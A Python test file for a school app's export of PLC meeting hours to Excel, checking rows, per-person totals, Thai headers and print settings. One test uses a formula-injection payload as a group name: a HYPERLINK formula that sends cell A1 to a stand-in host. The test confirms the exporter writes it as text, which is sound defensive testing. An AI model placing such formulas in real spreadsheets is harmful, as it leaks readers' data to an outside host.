"""PLC hours as a workbook, read back: one row per meeting attended with the hours each person was there, a
summary per person against the target, and a total that adds up to the hours the app shows."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from plc_support import TODAY, PlcSchool, plc_school

from kaplc_desktop.context import AppContext
from kaplc_desktop.reports.xlsx.plc_export import export_plc_hours
from kaplc_desktop.services.plc_meetings import AttendeeInput


def _school(ctx: AppContext) -> PlcSchool:
    plc = plc_school(ctx)
    first = plc.people[0]
    plc.save(day="10/06/2569", start="15.30", end="17.00")
    plc.save(
        [AttendeeInput(first.id, arrived_at="14.00"), AttendeeInput(plc.people[1].id)],
        day="17/06/2569",
        start="13.00",
        end="16.00",
    )
    return plc


def test_the_schools_workbook_has_a_row_per_meeting_attended_and_totals(school_ctx: AppContext, tmp_path: Path) -> None:
    plc = _school(school_ctx)
    path = tmp_path / "plc.xlsx"
    rows = export_plc_hours(school_ctx, path, "academic", 2569, today=TODAY)
    assert rows == 4 + 2
    wb = load_workbook(path)
    summary, detail = wb.worksheets
    assert summary.title == "สรุป" and detail.title == "รายการประชุมที่เข้าร่วม"
    head = [c.value for c in summary[4]]
    assert head[:6] == ["ที่", "ชื่อ", "ตำแหน่ง", "วิทยฐานะ", "เข้าร่วม (ครั้ง)", "ชั่วโมง"]
    by_name = {r[1]: r for r in summary.iter_rows(min_row=5, values_only=True)}
    first = plc.people[0].full_name_th
    assert by_name[first][4:8] == (2, 3.5, 50, 46.5)  # 1.5 h + 2 h (came at 14.00 to a 13.00–16.00 meeting)
    assert summary.freeze_panes == "A5" and summary.auto_filter.ref == "A4:I8"
    lines = list(detail.iter_rows(min_row=5, values_only=True))
    assert lines[-1][0] == "รวม" and lines[-1][8] == "=SUBTOTAL(9,I5:I10)"
    assert (
        sum(r[8] for r in lines[:-1])
        == sum(h.minutes for h in school_ctx.plc_hours.people("academic", 2569, TODAY)) / 60
    )
    assert {r[1] for r in lines[:-1]} == {"10/06/2569", "17/06/2569"}  # Buddhist-Era dates as typed
    assert detail.page_setup.orientation == "landscape" and detail.print_title_rows == "$4:$4"


def test_one_persons_workbook(school_ctx: AppContext, tmp_path: Path) -> None:
    plc = _school(school_ctx)
    path = tmp_path / "one.xlsx"
    assert export_plc_hours(school_ctx, path, "academic", 2569, plc.people[0].id, today=TODAY) == 2
    summary = load_workbook(path).worksheets[0]
    assert [r[1] for r in summary.iter_rows(min_row=5, values_only=True)] == [plc.people[0].full_name_th]
    assert plc.people[0].full_name_th in summary["A1"].value


def test_text_that_looks_like_a_formula_stays_text(school_ctx: AppContext, tmp_path: Path) -> None:
    plc = _school(school_ctx)
    from kaplc_desktop.services.plc_groups import MemberInput

    school_ctx.plc_groups.save(
        {"academic_year": 2569, "name": '=HYPERLINK("http://x.example/?"&A1,"คลิก")', "steps": plc.group.steps},
        [MemberInput(p.id, "member") for p in plc.people],
        plc.group.id,
        today=TODAY,
    )
    path = tmp_path / "plc.xlsx"
    export_plc_hours(school_ctx, path, "academic", 2569, today=TODAY)
    detail = load_workbook(path).worksheets[1]
    cells = [detail.cell(row=r, column=3) for r in range(5, 8)]
    assert all(c.data_type == "s" and c.value.startswith("=HYPERLINK") for c in cells)
